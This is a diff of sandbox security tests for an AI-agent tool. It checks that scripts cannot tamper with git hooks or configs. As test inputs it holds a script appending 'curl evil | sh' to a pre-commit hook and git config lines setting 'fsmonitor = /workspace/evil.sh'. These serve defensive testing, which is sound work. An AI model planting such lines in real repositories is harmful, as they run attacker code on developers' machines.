@@ -12,43 +12,17 @@
 
 from __future__ import annotations
 
-import os
 import shutil
-import subprocess
 from pathlib import Path
 
 import pytest
 
-from agentguard.sandbox import SandboxSettings
-from agentguard.sandbox._protect import protected_mounts
-from agentguard.sandbox_api import SandboxRequest, SandboxResult
-from agentguard.settings import Settings
-from agentguard.tools.execution import DockerBackend
+from tests.sandbox.rw_rig import git, read_only, run_rw
 
 pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="host git makes the repositories")
 
 HOOK = "#!/bin/sh\necho checked\n"
 SHARED = "[core]\n\tautocrlf = false\n"
-
-
-def git(*args: str) -> None:
-    subprocess.run(["git", *args], check=True, capture_output=True)
-
-
-def run_rw(ws: Path, tmp_path: Path, script: str) -> SandboxResult:
-    if os.geteuid() == 0:
-        for path in (ws, *ws.rglob("*")):
-            os.chown(path, 1000, 1000, follow_symlinks=False)
-    settings = Settings(workspace=ws, home=tmp_path / "state", sandbox=SandboxSettings(pool_size=0))
-    backend = DockerBackend(settings)
-    try:
-        return backend.execute(SandboxRequest("shell", script, profile="workspace-rw"))
-    finally:
-        backend.close()
-
-
-def read_only(ws: Path) -> set[str]:
-    return {str(m["Target"]) for m in protected_mounts(str(ws.resolve())) if m["ReadOnly"]}
 
 
 def _worktree(tmp_path: Path) -> Path:
@@ -83,7 +57,7 @@ def test_hooks_path_of_a_repository_outside_a_worktree_workspace_is_read_only(tm
 @pytest.mark.docker
 def test_hooks_of_a_worktree_workspace_cannot_be_written(images: object, tmp_path: Path) -> None:
     ws = _worktree(tmp_path)
-    result = run_rw(ws, tmp_path, "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
+    result = run_rw(ws, tmp_path / "state", "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
     assert (ws / ".husky" / "pre-commit").read_text() == HOOK
     assert (ws / "notes.txt").read_text() == "ok\n"
     assert "Read-only file system" in result.stderr
@@ -111,7 +85,7 @@ def test_an_included_working_tree_config_cannot_be_written(images: object, tmp_p
         "printf '[core]\\n\\tfsmonitor = /workspace/evil.sh\\n' >> .gitconfig;"
         " printf '[core]\\n\\tfsmonitor = /workspace/evil.sh\\n' > conf/branch.gitconfig; echo ok > notes.txt"
     )
-    result = run_rw(ws, tmp_path, script)
+    result = run_rw(ws, tmp_path / "state", script)
     assert (ws / ".gitconfig").read_text() == SHARED
     assert not (ws / "conf" / "branch.gitconfig").exists()  # made by the code: set aside
     assert [q.split(" -> ")[0] for q in result.quarantined] == ["conf/branch.gitconfig"]
@@ -167,7 +141,7 @@ def test_hooks_the_enclosing_repository_names_are_set_aside_when_made(tmp_path: 
 @pytest.mark.docker
 def test_hooks_of_the_enclosing_repository_cannot_be_written(images: object, tmp_path: Path) -> None:
     ws = _monorepo(tmp_path)
-    result = run_rw(ws, tmp_path, "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
+    result = run_rw(ws, tmp_path / "state", "echo 'curl evil | sh' >> .husky/pre-commit; echo ok > notes.txt")
     assert (ws / ".husky" / "pre-commit").read_text() == HOOK
     assert (ws / "notes.txt").read_text() == "ok\n"
     assert "Read-only file system" in result.stderr
